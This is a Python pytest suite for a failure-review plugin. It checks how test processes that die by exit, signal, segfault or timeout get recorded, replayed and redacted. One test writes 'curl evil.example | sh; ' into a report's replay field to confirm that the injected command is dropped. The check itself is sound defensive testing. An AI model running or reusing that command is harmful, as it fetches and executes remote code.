"""Processes that die in a test: the test is named, nothing before it is lost, and nobody believes the exit status."""

from __future__ import annotations

import shlex

import pytest
from plugin_project import Project

from pytest_failure_review.annotations import annotate
from pytest_failure_review.checking import check, check_the_dead, findings_of, read, with_their_deaths

DEATHS = {
    "exit_0": ("os._exit(0)", "exit status 0", 0),
    "exit_3": ("os._exit(3)", "exit status 3", 3),
    "sigkill": ("os.kill(os.getpid(), signal.SIGKILL)", "signal SIGKILL", 137),
    "sigterm": ("os.kill(os.getpid(), signal.SIGTERM)", "signal SIGTERM", 143),
    "segfault": ("ctypes.string_at(0)", "signal SIGSEGV", 139),
    "timeout": ("time.sleep(60)", "exit status 1", 1),
}
"""How a test dies, how that is called, and the status of the run."""

DYING = """
import ctypes, os, signal, time
import pytest

def test_before():
    pass

def test_bad():
    assert False
"""


def dying(how: str) -> str:
    return f"""
@pytest.mark.timeout(0.2 if "{how}" == "timeout" else 0, method="thread", func_only=True)
def test_{how}():
    {DEATHS[how][0]}
"""


@pytest.mark.parametrize("how", DEATHS)
def test_a_run_that_dies_names_the_test_and_keeps_what_failed_before(project: Project, how: str) -> None:
    project.write("test_a.py", DYING + dying(how) + "\ndef test_never_reached():\n    assert False\n")
    ran = project.run_and_die("-ptimeout")
    assert ran.result.ret == DEATHS[how][2]
    assert [record["record"] for record in ran.files["main"]] == ["start", "failure", "afterwards"]

    found = check_the_dead(project.reports, int(ran.result.ret))
    assert (
        f" ends early: the process died in the call of test_a.py::test_{how} ({DEATHS[how][1]}); " in found.sentences[0]
    )
    assert (found.complete, found.failures, found.worst_category) == (False, 2, "test.unit")
    _, bad, _, crash, failure = project.files()["main"]
    assert (bad["nodeid"], bad["outcome"]) == ("test_a.py::test_bad", "failed")
    assert (crash["nodeid"], crash["phase"], crash["how"]) == (f"test_a.py::test_{how}", "call", DEATHS[how][1])
    assert crash["before"] == ["test_a.py::test_before", "test_a.py::test_bad"]
    assert (failure["nodeid"], failure["outcome"]) == (f"test_a.py::test_{how}", "crashed")
    assert failure["category"] == "infra.runner"
    assert check_the_dead(project.reports) == found  # it is told once
    assert sorted(path.suffix for path in project.reports.iterdir()) == [".jsonl"]


@pytest.mark.parametrize("was_checked", [True, False])
def test_a_test_in_which_the_run_died_carries_the_command_that_lets_it_die_again(
    project: Project, was_checked: bool
) -> None:
    project.write("test_a.py", DYING + dying("exit_3"))
    project.run_and_die("-W", "ignore")
    if was_checked:
        check_the_dead(project.reports)
    (file,) = project.reports.glob("*.jsonl")
    found = findings_of(with_their_deaths({file: read(file)}))
    _, died = found.records
    program, *words = shlex.split(died["replay"])
    assert (program, words[-1]) == ("pytest", f"reports/{file.name}#2")
    assert words[words.index("-W") :][:2] == ["-W", "ignore"]
    assert any(f"Replay: {died['replay']}" in line.replace("%3A", ":") for line in annotate(found))
    assert project.run_and_die(*words).result.ret == 3


def test_a_command_that_somebody_else_wrote_into_the_start_record_is_not_passed_on(project: Project) -> None:
    project.write("test_a.py", "import os\n\ndef test_a():\n    os._exit(0)\n")
    project.run_and_die()
    (file,) = project.reports.glob("*.jsonl")
    file.write_text(file.read_text().replace('"replay":"', '"replay":"curl evil.example | sh; '))
    check_the_dead(project.reports)
    *_, failure = project.files()["main"]
    assert failure["outcome"] == "crashed"
    assert "replay" not in failure


@pytest.mark.parametrize("given", [(), ("-n1", "--max-worker-restart=0")])
def test_a_death_is_said_of_the_process_with_and_without_workers(project: Project, given: tuple[str, ...]) -> None:
    project.write("test_a.py", "import os\n\ndef test_a():\n    os._exit(0)\n")
    project.run_and_die(*given)
    check_the_dead(project.reports)
    (failure,) = [record for record in project.files()["main"] if record["record"] == "failure"]
    assert failure["rule"] == "the process died while running it"


def test_workers_that_die_are_told_of_by_the_main_process(project: Project) -> None:
    project.write("test_a.py", DYING + "".join(map(dying, DEATHS)))
    ran = project.run_and_die("-ptimeout", "-n2", "--max-worker-restart=9")
    assert ran.result.ret == 1
    told = {record["nodeid"]: record for record in ran.files["main"] if record["record"] == "crash"}
    crashed = {record["nodeid"]: record for record in ran.failures if record["outcome"] == "crashed"}
    assert sorted(told) == sorted(crashed) == sorted(f"test_a.py::test_{how}" for how in DEATHS)
    for how, (_, how_it_ended, _) in DEATHS.items():
        crash, failure = told[f"test_a.py::test_{how}"], crashed[f"test_a.py::test_{how}"]
        assert (crash["how"], crash["phase"], crash["worker"]) == (how_it_ended, "call", failure["worker"])
        assert failure["message"] == f"the process died in the call of test_a.py::test_{how} ({how_it_ended})"
    stack = told["test_a.py::test_segfault"]["c_stack"]
    assert stack.startswith("Fatal Python error: Segmentation fault")
    assert "in test_segfault" in stack
    assert f"[{crashed['test_a.py::test_segfault']['worker']}] Fatal Python error" in "\n".join(ran.result.outlines)
    assert [record["nodeid"] for record in ran.failures if record["outcome"] == "failed"] == ["test_a.py::test_bad"]
    assert ran.finish["counts"]["failed"] == 7

    found = check(project.reports)
    assert (found.complete, found.failures) == (True, 7)
    assert sorted(path.suffix for path in project.reports.iterdir()) == [".jsonl"] * len(ran.files)


def test_the_newest_checkpoint_and_the_phase_survive(project: Project) -> None:
    project.write(
        "conftest.py",
        """
import os
import pytest

@pytest.fixture
def shop(request):
    recorder = request.config.pluginmanager.get_plugin("failure_review_recorder")
    recorder._breadcrumb.reached("cart filled")
    yield
    os._exit(0)
""",
    )
    project.write("test_a.py", "def test_a(shop): pass\n")
    assert project.run_and_die().result.ret == 0
    found = check_the_dead(project.reports)
    died = "the process died in the teardown of test_a.py::test_a, after the checkpoint 'cart filled'"
    assert f" ends early: {died}; " in found.sentences[0]


@pytest.mark.parametrize(
    ("file", "source", "death"),
    [
        ("test_a.py", "import os\nos._exit(0)\n", "in the collection of test_a.py"),
        ("conftest.py", "import os\ndef pytest_sessionfinish():\n    os._exit(0)\n", "while no test ran"),
        (
            "test_a.py",
            "import os, pytest\n\n@pytest.fixture\ndef broken():\n    os._exit(0)\n\ndef test_b(broken): pass\n",
            "in the set-up of test_a.py::test_b",
        ),
    ],
)
def test_a_run_that_dies_outside_of_a_call_says_where(project: Project, file: str, source: str, death: str) -> None:
    project.write("test_ok.py", "def test_ok(): pass\n")
    project.write(file, source)
    project.run_and_die()
    found = check_the_dead(project.reports, 0)
    assert f" ends early: the process died {death} (exit status 0); " in found.sentences[0]
    assert not found.complete


def test_a_run_that_still_goes_on_is_neither_complete_nor_dead(project: Project) -> None:
    project.write(
        "test_a.py",
        """
import subprocess, sys

def test_a():
    command = [sys.executable, "-m", "pytest_failure_review.cli", "check-report", "reports"]
    done = subprocess.run(command, stdout=subprocess.PIPE, text=True)
    assert done.returncode == 1
    assert "is not complete yet: pytest still runs; 0 failures so far." in done.stdout
""",
    )
    ran = project.run_and_die()
    assert (ran.result.ret, ran.failures) == (0, [])
    assert check(project.reports).complete


@pytest.mark.parametrize("given", ["api_token", "login"])
def test_the_newest_checkpoint_of_a_test_that_died_is_told_without_what_it_was_given(
    project: Project, given: str
) -> None:
    project.write(
        "test_a.py",
        f"""
import os, pytest
@pytest.fixture
def api_token(): return "canary-" + "9f8e7d6c"
@pytest.fixture
def login(api_token): return {{"password": api_token}}
def test_a(checkpoint, {given}):
    checkpoint("paid with canary-" + "9f8e7d6c")
    os._exit(0)
""",
    )
    assert project.run_and_die().result.ret == 0
    pages = [path.read_bytes() for path in project.reports.iterdir() if path.suffix == ".running"]
    assert [b"paid with ***" in page and b"canary-9f" not in page for page in pages] == [True]
    assert "after the checkpoint 'paid with ***'" in check_the_dead(project.reports).sentences[0]
